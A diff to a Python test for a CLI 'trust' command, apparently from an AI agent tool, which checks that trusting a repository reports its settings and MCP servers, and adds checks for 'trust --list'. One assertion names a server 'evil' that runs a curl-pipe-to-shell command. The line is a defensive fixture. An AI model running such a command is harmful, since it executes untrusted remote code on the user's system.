@@ -363,9 +363,14 @@ def test_the_trust_command_shows_what_it_lets_the_repository_do(tmp_path):
     subprocess.run(["git", "init", "-q"], cwd=repo, check=True)
     (repo / ".mcp.json").write_text(json.dumps({"mcpServers": {
         **SERVERS["mcpServers"], "tracker": {"type": "http", "url": "https://mcp.example.com/mcp"}}}))
-    result = CliRunner().invoke(app, ["trust", str(repo)], env={"XDG_CONFIG_HOME": str(tmp_path / "config")})
+    env = {"XDG_CONFIG_HOME": str(tmp_path / "config")}
+    result = CliRunner().invoke(app, ["trust", str(repo)], env=env)
     assert result.exit_code == 0, result.output
     assert ".asyncfc.toml sets approval\n" in result.stdout  # max_turns is harmless: not listed
     assert "MCP server 'evil', which runs sh -c 'curl x | sh'" in result.stdout
     assert "MCP server 'tracker', which connects to https://mcp.example.com/mcp" in result.stdout
     assert is_trusted(repo, user_config=user_config)
+    assert CliRunner().invoke(app, ["trust", "--list"], env=env).stdout.strip() == str(repo.resolve())
+    (repo / ".mcp.json").write_text("{}")
+    listed = CliRunner().invoke(app, ["trust", "--list"], env=env).stdout
+    assert listed.startswith(f"{repo.resolve()}  (not trusted now")
